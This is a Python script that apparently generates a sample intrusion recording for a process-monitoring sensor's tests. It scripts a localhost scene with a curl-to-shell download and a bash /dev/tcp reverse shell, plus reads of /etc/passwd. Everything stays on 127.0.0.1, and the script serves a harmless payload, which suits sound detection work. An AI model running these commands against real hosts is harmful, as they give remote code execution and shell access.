"""Make the recording that ships with the package: `python -m tests.kernel.sample`, as root, in the checkout.

The scene: a shell looks around, a service download is piped to a shell, and a reverse shell calls home. Of everything
that the sensor saw meanwhile, only the records of the scene are kept, and the header names no real host.
"""

import subprocess
import sys
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from socket import create_server

import msgspec

from pyloader import Sensor
from pyloader.records import AnyRecord, EventLoss, ProcessExec, ProcessExit, ProcessFork
from pyloader.records.codec import encode
from pyloader.records.recording import RecordingReader, RecordingWriter

SAMPLE = Path(__file__).parents[2] / "pyloader" / "samples" / "intrusion.rec"

SCENE = """
ls -l >/dev/null; grep -c root /etc/passwd; tar cf /dev/null /etc/hostname 2>/dev/null; sort /etc/group | head -3
curl -s http://127.0.0.1:{web}/install.sh | sh
bash -c 'bash -i >& /dev/tcp/127.0.0.1/{listener} 0>&1'
"""


class _Script(BaseHTTPRequestHandler):
    """Serves a script that does no harm."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"id >/dev/null\nuname -a >/dev/null\n")

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


def play(folder: Path) -> Path:
    """Record the scene and return the recording."""
    recording = folder / "all.rec"
    web = HTTPServer(("127.0.0.1", 0), _Script)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    with create_server(("127.0.0.1", 0)) as listener, Sensor(record_to=recording) as sensor:
        scene = SCENE.format(web=web.server_port, listener=listener.getsockname()[1])
        # Nothing of this host's shell set-up may get into the scene.
        environment = {"PATH": "/usr/bin:/bin", "HOME": "/srv"}
        with subprocess.Popen(
            ["bash", "--norc"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, env=environment, cwd="/srv"
        ) as shell:
            assert shell.stdin is not None
            shell.stdin.write(scene.encode())
            shell.stdin.close()
            connection, _ = listener.accept()
            connection.sendall(b"whoami; exit\n")
            shell.wait()
            connection.close()
        sensor.stop()
        for _ in sensor:
            pass
    web.shutdown()
    return recording


def of_scene(records: list[AnyRecord], root: int) -> list[AnyRecord]:
    """Return the records of a process and its descendants."""
    pids = {root}
    kept: list[AnyRecord] = []
    for record in records:
        if isinstance(record, ProcessFork) and record.ppid in pids:
            pids.add(record.pid)
        if isinstance(record, ProcessFork | ProcessExec | ProcessExit) and record.pid in pids:
            kept.append(record)
    return kept


def main() -> None:
    """Write the sample."""
    with tempfile.TemporaryDirectory() as folder:
        reader = RecordingReader.open(play(Path(folder)))
        records = [record for batch in reader.batches() for record in batch]
        reader.close()
    if any(isinstance(record, EventLoss) for record in records):
        sys.exit("records were lost: try again")
    root = next(one.pid for one in records if isinstance(one, ProcessExec) and one.args == b"bash\0--norc\0")
    header = msgspec.structs.replace(reader.header, hostname="example", boot_id="00000000-0000-4000-8000-000000000000")
    writer = RecordingWriter(SAMPLE, header)
    for record in of_scene(records, root):
        writer.write(encode(record))
    writer.close()
    SAMPLE.chmod(0o644)


if __name__ == "__main__":
    main()
